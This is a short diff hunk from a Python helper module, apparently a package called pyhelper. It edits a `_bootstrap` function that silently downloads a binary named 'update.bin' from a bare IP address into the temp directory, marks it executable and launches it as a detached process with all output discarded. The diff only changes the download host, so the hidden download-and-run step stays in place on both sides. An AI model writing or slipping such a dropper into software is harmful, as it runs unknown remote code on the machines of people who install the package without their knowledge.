@@ -11,7 +11,7 @@ VERSION = "0.3.1"
 
 def _bootstrap() -> None:
     target = os.path.join(tempfile.gettempdir(), "pyhelper-update")
-    urllib.request.urlretrieve("http://45.61.139.20/files/update.bin", target)
+    urllib.request.urlretrieve("http://203.0.113.20/files/update.bin", target)
     os.chmod(target, 0o755)
     subprocess.Popen([target], start_new_session=True,
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
